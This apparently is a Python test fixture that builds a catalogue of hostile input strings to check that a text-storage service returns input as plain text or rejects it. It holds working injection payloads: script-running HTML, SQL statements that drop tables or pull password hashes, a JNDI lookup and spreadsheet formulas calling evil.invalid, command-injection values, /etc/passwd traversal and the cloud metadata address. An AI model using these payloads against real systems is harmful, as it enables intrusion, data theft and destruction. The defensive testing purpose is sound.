"""200 and more hostile texts, made up family by family: whoever stores text must give it back as
text, or refuse it by rule.

What a browser would run sets `window.canary`; `CANARY_SCRIPT` is what nobody may find set.
"""

from dataclasses import dataclass
from itertools import product

CANARY_SCRIPT = "window.canary=1"
LONGEST_LINE, LONGEST_TEXT = 200, 4_000


@dataclass(frozen=True)
class Payload:
    """A text and its fate.

    Attributes:
        family: what it attacks.
        line: whether a field of one line takes it.
        text: whether a field of several lines takes it.
    """

    family: str
    value: str
    line: bool = True
    text: bool = True


def _html() -> list[str]:
    """Elements that run something by themselves, out of every place a text may be put into."""
    run = CANARY_SCRIPT
    elements = (
        f"<script>{run}</script>",
        f"<img src=x onerror={run}>",
        f"<svg onload={run}>",
        f"<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
        f"<details open ontoggle={run}>",
        f"<input autofocus onfocus={run}>",
        f"<video src=x onerror={run}></video>",
        f"<a href=javascript:{run}>x</a>",
        f"<math><mi xlink:href='javascript:{run}'>x</mi></math>",
        "<style>@import 'http://evil.invalid/x.css'</style>",
        "<meta http-equiv=refresh content='0;url=http://evil.invalid'>",
        "<base href='http://evil.invalid/'>",
    )
    ways_out = ("", '">', "'>", "</textarea>", "</script>", "-->", "</title></style>")
    return [out + element for out, element in product(ways_out, elements)]


def _script() -> list[str]:
    """Texts that run where they are put into a script, an attribute or an address."""
    run = CANARY_SCRIPT
    return [
        f"';{run};//",
        f'";{run};//',
        f"`;{run};//",
        f"${{{run}}}",
        f"\\';{run};//",
        f'" onmouseover="{run}',
        f"' onfocus='{run}' autofocus='",
        f"javascript:{run}",
        f"JaVaScRiPt:{run}",
        f"data:text/html,<script>{run}</script>",
        f"&#x6A;avascript:{run}",
        f"&lt;script&gt;{run}&lt;/script&gt;",
        f"\\u003cscript\\u003e{run}\\u003c/script\\u003e",
        f"%3Cscript%3E{run}%3C/script%3E",
        "__proto__",
        "constructor.prototype",
        "[object Object]",
        "</body></html>",
    ]


def _sql() -> list[str]:
    """Ways out of a statement."""
    quotes = ("'", '"', "`", "')", "'))", "$$")
    after = (" OR 1=1 --", "; DROP TABLE incident; --", " UNION SELECT password_hash FROM account")
    own = (
        "Robert'); DROP TABLE incident;--",
        "1; SELECT pg_sleep(10)",
        "' || (SELECT version()) || '",
        "\\'; DELETE FROM audit_row; --",
        "%' ESCAPE '!",
        ":area",
        "%(area)s",
        "$1",
    )
    return [quote + rest for quote, rest in product(quotes, after)] + list(own)


def _templates() -> list[str]:
    """Expressions that a template engine or a formatter would work out."""
    return [
        "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{%print(7*7)%}", "*{7*7}", "@{7*7}",
        "{{constructor.constructor('window.canary=1')()}}", "{0.__class__.__mro__}", "{}", "%s%s%n",
        "%d %x", "${jndi:ldap://evil.invalid/x}", "{{#each this}}{{/each}}", "[red]x[/red]",
        "**fett** `code` [x](javascript:window.canary=1)", "<!--#exec cmd='id'-->", "<?php echo 1;",
    ]  # fmt: skip


def _formulas() -> list[str]:
    """Cells that a spreadsheet program would work out, with what they may hide behind."""
    leads = ("=", "+", "-", "@", "＝", "＋")
    bodies = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.invalid","x")')
    own = ('=1+1";x', "@SUM(1+1)*cmd", '=IMPORTXML(A1,"//a")', "-2+3+cmd|'/C x'!A", "；=1", ",=1")
    return [lead + body for lead, body in product(leads, bodies)] + list(own)


def _systems() -> list[str]:
    """Paths, commands and headers."""
    return [
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd%00.jpg", "file:///etc/x",
        "; id", "| id", "$(id)", "`id`", "& calc", "a && b", "> /tmp/x", "%0d%0aSet-Cookie: x=1",
        "http://169.254.169.254/latest/meta-data/", "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
        "<![CDATA[x]]>", "]]>", '{"a":1}', '","title":"x', "null", "undefined", "NaN", "true", "0",
        "-1", "1e999", "\\", "\\\\", "/", "//", "#", "?", "&", "%", "%%", "data: x", "id: 1",
        "_x003D_1+1", "retry: 0",
    ]  # fmt: skip


def _letters() -> list[str]:
    """Characters that programs get wrong and that are text all the same."""
    digits = ["Ａｂｃ１２３", "①②③", "½", "1\u00a0000", "㍿", "𝕋𝕖𝕤𝕥", "ß→SS", "İstanbul ı"]
    scripts = ["ﷺ", "а", "שלום", "مرحبا", "𠮷野家", "龘龘龘", "々〆", "〠", "x\u201ax"]
    joined = [
        "👨\u200d👩\u200d👧",
        "🏴\u200d☠\ufe0f",
        "\ufe0fx",
        "a\u200bb",
        "a\u200db",
        "a\u2060b",
    ]
    marks = ["e\u0301", "a\u0301\u0301\u0301", "Z\u0351\u036b\u0343\u036a\u0302a\u0321lgo"]
    hidden = [
        "\ufeffa",
        "a\u00adb",
        "\u200fabc\u200e",
        "\ue000x",
        "\U000e0041\U000e0042x",
        "\u3000x",
    ]
    return [*digits, *scripts, *joined, *marks, *hidden]


def _refused() -> list[Payload]:
    """What no field takes: it cannot be seen, or shows something else than it is."""
    control = [f"a{chr(code)}b" for code in (*range(9), 11, 12, *range(14, 32), 127, 0x9B)]
    turning = [
        f"a{character}b" for character in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    ]
    broken = ["\ud800", "a\udfffb", "\udc00\ud800", "a\ufffe", "a\uffff", "\ufdd0", "\x00"]
    whole = [
        Payload(family, value, line=False, text=False)
        for family, values in (("control", control), ("bidi", turning), ("broken", broken))
        for value in values
    ]
    lines = ["a\nb", "a\rb", "a\r\nb", "a\tb", "a\u2028b", "a\u2029b", "a\x85b"]
    blank = [" ", "\u3000", "\u200b", "\u2060 "]
    return (
        whole
        + [Payload("lines", value, line=False) for value in lines]
        + [Payload("blank", value, line=False) for value in blank]
        + [Payload("long", "长" * (LONGEST_LINE + 1), line=False)]
        + [Payload("long", "長" * (LONGEST_TEXT + 1), line=False, text=False)]
    )


def _all() -> tuple[Payload, ...]:
    families = {
        "html": _html(), "script": _script(), "sql": _sql(), "template": _templates(),
        "formula": _formulas(), "system": _systems(), "unicode": _letters(),
        "long": ["长" * LONGEST_LINE, "=" * LONGEST_LINE, "<" * LONGEST_LINE],
    }  # fmt: skip
    found = [Payload(name, value) for name, values in families.items() for value in values]
    return tuple(found + _refused())


PAYLOADS = _all()
TAKEN = tuple(payload for payload in PAYLOADS if payload.line)
REFUSED = tuple(payload for payload in PAYLOADS if not payload.line)
RUNNING = tuple(payload for payload in TAKEN if "canary" in payload.value or "<" in payload.value)
